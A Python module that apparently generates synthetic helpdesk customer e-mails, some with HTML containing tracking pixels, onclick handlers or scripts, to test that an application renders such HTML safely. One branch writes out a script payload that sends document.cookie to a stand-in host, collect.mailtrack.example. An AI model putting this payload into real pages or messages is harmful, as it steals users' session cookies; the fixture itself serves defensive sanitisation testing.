"""Customer e-mails as they arrive from a helpdesk: plain text always, HTML often, with real-world junk.

About half of the messages carry HTML: paragraphs, a bullet list, a signature
with the company logo loaded from a remote ``https://`` address, and now and
then a tracking pixel, an ``onclick`` handler or even a ``<script>``. The
application must render such HTML safely; the generator makes sure it has
something to prove that on. ``body_text`` always holds the readable plain text.
"""

from __future__ import annotations

from html import escape
from random import Random

from core.generator.customers import Contact, Customer

HTML_SHARE = 0.55
TRACKING_PIXEL_SHARE = 0.2
ONCLICK_SHARE = 0.05
SCRIPT_SHARE = 0.03


class MailComposer:
    """Turns the parts of a customer message into (plain text, HTML or None)."""

    def __init__(self, rng: Random) -> None:
        self._rng = rng

    def compose(
        self,
        *,
        greeting: str,
        paragraphs: list[str],
        bullets: list[str],
        sign_off: str,
        contact: Contact,
        customer: Customer,
    ) -> tuple[str, str | None]:
        """The message's ``body_text`` and ``body_html`` (None for a plain-text mail)."""
        signature = f"--\n{contact.name}\n{contact.title} | {customer.name}\n{contact.phone}"
        parts = [greeting, *paragraphs]
        if bullets:
            parts.append("\n".join(f"- {bullet}" for bullet in bullets))
        parts.append(f"{sign_off}\n{contact.first_name}")
        parts.append(signature)
        text = "\n\n".join(parts)
        if self._rng.random() >= HTML_SHARE:
            return text, None
        return text, self._html(greeting, paragraphs, bullets, sign_off, contact, customer)

    def _html(
        self,
        greeting: str,
        paragraphs: list[str],
        bullets: list[str],
        sign_off: str,
        contact: Contact,
        customer: Customer,
    ) -> str:
        rng = self._rng
        html = [
            '<html><body><div style="font-family:Calibri,Arial,sans-serif;font-size:11pt">'
            f"<p>{escape(greeting)}</p>"
        ]
        html.extend(f"<p>{escape(paragraph)}</p>" for paragraph in paragraphs)
        if bullets:
            html.append("<ul>" + "".join(f"<li>{escape(bullet)}</li>" for bullet in bullets) + "</ul>")
        html.append(f"<p>{escape(sign_off)}<br>{escape(contact.first_name)}</p>")
        html.append(
            '<table class="signature" cellpadding="0"><tr>'
            f'<td><img src="https://cdn.{customer.domain}/mail/logo.png" width="120" height="36" '
            f'alt="{escape(customer.name)}"></td>'
            f"<td><b>{escape(contact.name)}</b><br>{escape(contact.title)} | {escape(customer.name)}<br>"
            f'{escape(contact.phone)}<br><a href="mailto:{contact.email}">{contact.email}</a></td>'
            "</tr></table>"
        )
        if rng.random() < ONCLICK_SHARE:
            html.append(
                f'<p style="font-size:8pt"><a href="https://www.{customer.domain}/privacy" '
                f"onclick=\"track('{rng.getrandbits(32):08x}')\">Privacy notice</a></p>"
            )
        if rng.random() < TRACKING_PIXEL_SHARE:
            html.append(
                f'<img src="https://t.mailtrack.example/open/{rng.getrandbits(64):016x}.gif" '
                'width="1" height="1" alt="">'
            )
        if rng.random() < SCRIPT_SHARE:
            html.append(
                "<script>document.location='https://collect.mailtrack.example/?c='+document.cookie</script>"
            )
        html.append("</div></body></html>")
        return "".join(html)
